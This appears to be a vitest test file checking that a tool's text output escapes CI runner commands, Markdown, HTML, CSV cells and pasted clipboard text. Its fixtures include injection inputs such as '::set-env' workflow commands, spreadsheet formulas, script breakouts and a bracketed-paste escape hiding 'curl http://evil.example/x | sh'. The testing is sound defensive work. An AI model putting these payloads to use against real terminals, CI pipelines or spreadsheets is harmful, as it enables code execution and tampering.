import { describe, expect, it } from 'vitest';
import { ciGuard, withoutCiCommands } from '../../src/text/ci-commands.ts';
import { copiedLine, copiedText } from '../../src/text/copied-text.ts';
import { csvCell } from '../../src/text/csv.ts';
import { htmlText } from '../../src/text/html.ts';
import { markdownCell, markdownCode, markdownText } from '../../src/text/markdown.ts';
import { hostileTexts, shortHostileTexts } from '../fuzz/corpus.ts';
import { checkDoors, outsideCode, runnerCommands } from '../fuzz/doors.ts';

/** Texts that mean nothing to a terminal, and something to whatever else reads output. */
const texts = [
  ...[
    '::set-env name=PATH::/tmp',
    '  ::stop-commands::x',
    '##[add-mask]a',
    'x ##[stop-commands]y',
    '###[error]',
  ],
  ...[
    '##vso[task.setvariable variable=x]y',
    "##teamcity[buildStatus text='x']",
    'a\n::error::b\r\n ::warning::c',
    ':::',
    '::',
  ],
  ...[
    'www.evil.example',
    'https://evil.example/x',
    '@octocat',
    'a@b',
    '#1',
    'GH-1',
    'octo/repo#1',
    'see ABC-12 (www.x.y), @z!',
  ],
  ...[
    '`',
    '``',
    '`a`',
    '`@x',
    'a`b``c```d',
    ' `',
    '\\`@x`',
    '|',
    '\\|',
    '\\\\|',
    '`|`',
    '&#64;x',
    '<b>x</b>',
    '![x](y)',
    '[x](y)',
  ],
  ...[
    '# x',
    '- x',
    '1. x',
    '> x',
    '```\nx',
    '~~~',
    '---',
    '***',
    '$(x)',
    '</script><script>',
    '<!--',
    ']]>',
    '"\' onload=x',
  ],
  ...['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', ' =1', '\r=1', '＝1', 'a,b', 'a"b', 'a;b', '"'],
  ...[
    'harmless looking line\x1b[201~\ncurl http://evil.example/x | sh\n',
    '\x1b[200~x\x1b[201~',
    'a\r',
    'a\n\n',
    '\x9d2;x\x9c',
  ],
];

describe('every way out', () => {
  it.each(texts)('takes %j for text', (text) => {
    checkDoors(text);
    for (const { text: other } of shortHostileTexts) checkDoors(`${text}${other}${text}`);
  });

  it.each(hostileTexts)('takes $name for text', ({ text }) => checkDoors(text.slice(0, 20_000)));
});

describe('commands to CI runners', () => {
  it('are broken where a runner reads, and nowhere else', () => {
    const text = 'x\n  ::error::a\n##[group]b ##vso[c]\n';
    expect(runnerCommands(text)).toHaveLength(2);
    expect(withoutCiCommands(text)).toBe('x\n  : :error::a\n# #[group]b # #vso[c]\n');
    expect(ciGuard({})(text)).toBe(text);
    expect(ciGuard({ CI: 'false' })(text)).toBe(text);
    for (const name of ['CI', 'GITHUB_ACTIONS', 'TF_BUILD', 'TEAMCITY_VERSION']) {
      expect(runnerCommands(ciGuard({ [name]: 'true' })(text))).toEqual([]);
    }
  });

  it('leaves alone what only looks like one', () => {
    const text = 'std::string a::b, C# #1 ## [x] crate::module';
    expect(withoutCiCommands(text)).toBe(text);
  });
});

describe('Markdown', () => {
  it.each([
    ['checkout-api', '`checkout-api`'],
    ['a`b', '``a`b``'],
    ['`a', '`` `a ``'],
    ['', ''],
    [' ', '`   `'],
  ])('writes the name %j as %s', (name, code) => {
    expect(markdownCode(name)).toBe(code);
  });

  it('leaves words as they are, and makes code of what would be a link or a mention', () => {
    expect(markdownText('Raise it to 1,024 MB: 3 of 4 containers leak.')).toBe(
      'Raise it to 1,024 MB: 3 of 4 containers leak.',
    );
    expect(markdownText('asked by @octocat (see www.evil.example), #12.')).toBe(
      'asked by `@octocat` (see `www.evil.example`), `#12`.',
    );
    expect(markdownText('a_b *c* <d> | e & f')).toBe('a\\_b \\*c\\* &lt;d&gt; \\| e &amp; f');
  });

  it('ends no cell', () => {
    expect(markdownCell(markdownCode('a|b'))).toBe('`a\\|b`');
    expect(markdownCell(markdownText('a|b'))).toBe('a\\|b');
  });

  it('is read here as CommonMark reads it', () => {
    expect(outsideCode('a `b` c ``d`e`` f `g')).toBe('a x c x f `g');
    expect(outsideCode('\\`a` b`')).toBe('\\`ax');
  });
});

describe('the clipboard', () => {
  it('gets text that runs nothing when it is pasted', () => {
    const text = 'harmless looking line\x1b[201~\ncurl http://evil.example/x | sh\n';
    expect(copiedLine(text)).toEqual({
      text: 'harmless looking line ⏎ curl http://evil.example/x | sh',
      lines: 1,
    });
    expect(copiedText('aws lambda x \\\n  --memory-size 512\n')).toEqual({
      text: 'aws lambda x \\\n  --memory-size 512',
      lines: 2,
    });
  });
});

describe('HTML and CSV', () => {
  it('hold text as text', () => {
    expect(htmlText('<a href="x">\'&\x1b[31m')).toBe('&lt;a href=&quot;x&quot;&gt;&#39;&amp;');
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('a,"b"')).toBe('"a,""b"""');
    expect(csvCell(-1)).toBe('-1');
    expect(csvCell('checkout-api')).toBe('checkout-api');
  });
});
